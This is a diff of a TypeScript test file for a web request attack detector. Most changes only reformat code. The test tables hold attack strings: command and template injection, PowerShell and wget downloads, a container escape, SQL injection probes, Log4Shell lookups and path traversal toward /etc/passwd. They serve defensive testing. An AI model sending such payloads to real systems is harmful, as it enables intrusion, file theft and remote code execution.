@@ -13,22 +13,60 @@ const strict = compileDetector(baselineConfig("strict"));
 type Where = "query" | "form" | "json" | "json-u" | "xml-attr" | "multipart" | "filename";
 
 function request(value: string, where: Where): DetectionRequest {
-  const headers: [string, string][] = [["Host", "app.example"], ["User-Agent", "Mozilla/5.0"]];
+  const headers: [string, string][] = [
+    ["Host", "app.example"],
+    ["User-Agent", "Mozilla/5.0"],
+  ];
   switch (where) {
     case "query":
       return { method: "GET", path: "/search", query: `q=${encodeURIComponent(value)}`, headers };
     case "form":
-      return { method: "POST", path: "/f", query: "", headers, contentType: "application/x-www-form-urlencoded", body: `name=a&comment=${encodeURIComponent(value)}` };
+      return {
+        method: "POST",
+        path: "/f",
+        query: "",
+        headers,
+        contentType: "application/x-www-form-urlencoded",
+        body: `name=a&comment=${encodeURIComponent(value)}`,
+      };
     case "json":
       return { method: "POST", path: "/api", query: "", headers, contentType: "application/json", body: JSON.stringify({ ticket: { body: value } }) };
     case "json-u":
-      return { method: "POST", path: "/api", query: "", headers, contentType: "application/json", body: `{"v":${JSON.stringify(value).replace(/[$<>'(){}:/]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)}}` };
+      return {
+        method: "POST",
+        path: "/api",
+        query: "",
+        headers,
+        contentType: "application/json",
+        body: `{"v":${JSON.stringify(value).replace(/[$<>'(){}:/]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)}}`,
+      };
     case "xml-attr":
-      return { method: "POST", path: "/soap", query: "", headers, contentType: "application/xml", body: `<a><b v="${value.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;")}">1</b></a>` };
+      return {
+        method: "POST",
+        path: "/soap",
+        query: "",
+        headers,
+        contentType: "application/xml",
+        body: `<a><b v="${value.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;")}">1</b></a>`,
+      };
     case "multipart":
-      return { method: "POST", path: "/up", query: "", headers, contentType: "multipart/form-data; boundary=XX", body: `--XX\r\nContent-Disposition: form-data; name="f"\r\n\r\n${value}\r\n--XX--\r\n` };
+      return {
+        method: "POST",
+        path: "/up",
+        query: "",
+        headers,
+        contentType: "multipart/form-data; boundary=XX",
+        body: `--XX\r\nContent-Disposition: form-data; name="f"\r\n\r\n${value}\r\n--XX--\r\n`,
+      };
     case "filename":
-      return { method: "POST", path: "/up", query: "", headers, contentType: "multipart/form-data; boundary=XX", body: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\n\r\nhi\r\n--XX--\r\n` };
+      return {
+        method: "POST",
+        path: "/up",
+        query: "",
+        headers,
+        contentType: "multipart/form-data; boundary=XX",
+        body: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\n\r\nhi\r\n--XX--\r\n`,
+      };
   }
 }
 
@@ -50,7 +88,7 @@ const CLASSES: Record<string, ClassTable> = {
       ["$f='sys'.'tem';$f('id');", "php.variable-function"],
       ["SyStEm\n('cat /etc/passwd');", "php.function-call"],
     ],
-    benign: ["<?xml version=\"1.0\"?><note>hi</note>", "[php] is my favourite tag", "The system (as designed) works", "Price: $5 (incl. tax)"],
+    benign: ['<?xml version="1.0"?><note>hi</note>', "[php] is my favourite tag", "The system (as designed) works", "Price: $5 (incl. tax)"],
   },
   "Windows cmd / PowerShell": {
     attacks: [
@@ -62,7 +100,12 @@ const CLASSES: Record<string, ClassTable> = {
       ["Invoke-WebRequest -Uri http://x/a -OutFile a.exe", "rce.powershell"],
       ["pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "rce.shell-invocation"],
     ],
-    benign: ["for five days in (late) May we do nothing", "Invoke-WebRequest is the cmdlet we document in chapter 3", "Get-Content is slow on big files", "I got 50% off (100% happy)"],
+    benign: [
+      "for five days in (late) May we do nothing",
+      "Invoke-WebRequest is the cmdlet we document in chapter 3",
+      "Get-Content is slow on big files",
+      "I got 50% off (100% happy)",
+    ],
   },
   "Unix shell": {
     attacks: [
@@ -76,7 +119,14 @@ const CLASSES: Record<string, ClassTable> = {
       ["&& docker run -v /:/mnt alpine chroot /mnt sh", "rce.command-injection"],
       ["| stdbuf -o0 wget http://x/a -O /tmp/a", "rce.command-injection"],
     ],
-    benign: ["Tom & Jerry; time for tea", "see you at 5 | bring snacks", "cost: $a and $b", "alias: Bobby", "We use Python; docker for deploys", "My alias = Bob"],
+    benign: [
+      "Tom & Jerry; time for tea",
+      "see you at 5 | bring snacks",
+      "cost: $a and $b",
+      "alias: Bobby",
+      "We use Python; docker for deploys",
+      "My alias = Bob",
+    ],
   },
   "JavaScript / Ruby / templates": {
     attacks: [
@@ -87,13 +137,18 @@ const CLASSES: Record<string, ClassTable> = {
       ["%x(id)", "generic.ruby-injection"],
       ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "generic.template-injection"],
     ],
-    benign: ["The constructor of this house (1920) was my grandfather", "Hello {{name}}, your order is ready", "The process spawned 3 new ideas", "Use 10%x zoom (default)"],
+    benign: [
+      "The constructor of this house (1920) was my grandfather",
+      "Hello {{name}}, your order is ready",
+      "The process spawned 3 new ideas",
+      "Use 10%x zoom (default)",
+    ],
   },
   Java: {
     attacks: [
       ["java.io.FileInputStream", "java.dangerous-class-name"],
       ["javax.script.ScriptEngineManager", "java.dangerous-class-name"],
-      ["<java.util.PriorityQueue serialization=\"custom\">", "java.xml-object-graph"],
+      ['<java.util.PriorityQueue serialization="custom">', "java.xml-object-graph"],
     ],
     benign: ["java.lang.NullPointerException at com.example.Order.submit(Order.java:42)", "I love java.io tutorials", "java.util.List is an interface"],
   },
@@ -111,7 +166,7 @@ const CLASSES: Record<string, ClassTable> = {
       ["1' ORDER BY 5-- -", "sqli.order-by-probe"],
       ["1)/**/GROUP/**/BY/**/1,2,3#", "sqli.order-by-probe"],
       ["bob');--", "sqli.quote-terminator"],
-      ["x\");--", "sqli.quote-terminator"],
+      ['x");--', "sqli.quote-terminator"],
       ["'||(SELECT version())||'", "sqli.pipe-concat"],
       ["'||pg_sleep(5)||'", "sqli.pipe-concat"],
     ],
@@ -139,18 +194,22 @@ describe.each(Object.entries(CLASSES))("%s", (_name, table) => {
 describe("placement", () => {
   it("Log4Shell in a JSON string written with \\u escapes and in an XML attribute", () => {
     const body = '{"ua":"\\u0024\\u007bjndi:ldap://x/a\\u007d"}';
-    expect(detector.inspect({ method: "POST", path: "/", query: "", headers: [], contentType: "application/json", body }).matches.map((m) => m.ruleId)).toContain("java.jndi-lookup");
+    expect(
+      detector.inspect({ method: "POST", path: "/", query: "", headers: [], contentType: "application/json", body }).matches.map((m) => m.ruleId),
+    ).toContain("java.jndi-lookup");
     expect(detector.inspect(request("${${lower:j}ndi:ldap://x/a}", "xml-attr")).blocked).toBe(true);
   });
   it("HTML-entity escapes in a JSON string", () => {
     expect(detector.inspect(request("&#36;&#123;jndi:ldap://x/a&#125;", "json")).blocked).toBe(true);
   });
   it("traversal in multipart file names", () => {
-    for (const name of ["../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd"]) expect(detector.inspect(request(name, "filename")).blocked, name).toBe(true);
+    for (const name of ["../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd"])
+      expect(detector.inspect(request(name, "filename")).blocked, name).toBe(true);
     expect(detector.inspect(request("notes (final) - v2.txt", "filename")).blocked).toBe(false);
   });
   it("overlong UTF-8 and %u encodings inside JSON strings", () => {
-    for (const v of ["%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "%u002e%u002e%u2215etc%u2215passwd"]) expect(detector.inspect(request(v, "json")).blocked, v).toBe(true);
+    for (const v of ["%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "%u002e%u002e%u2215etc%u2215passwd"])
+      expect(detector.inspect(request(v, "json")).blocked, v).toBe(true);
   });
 });
 
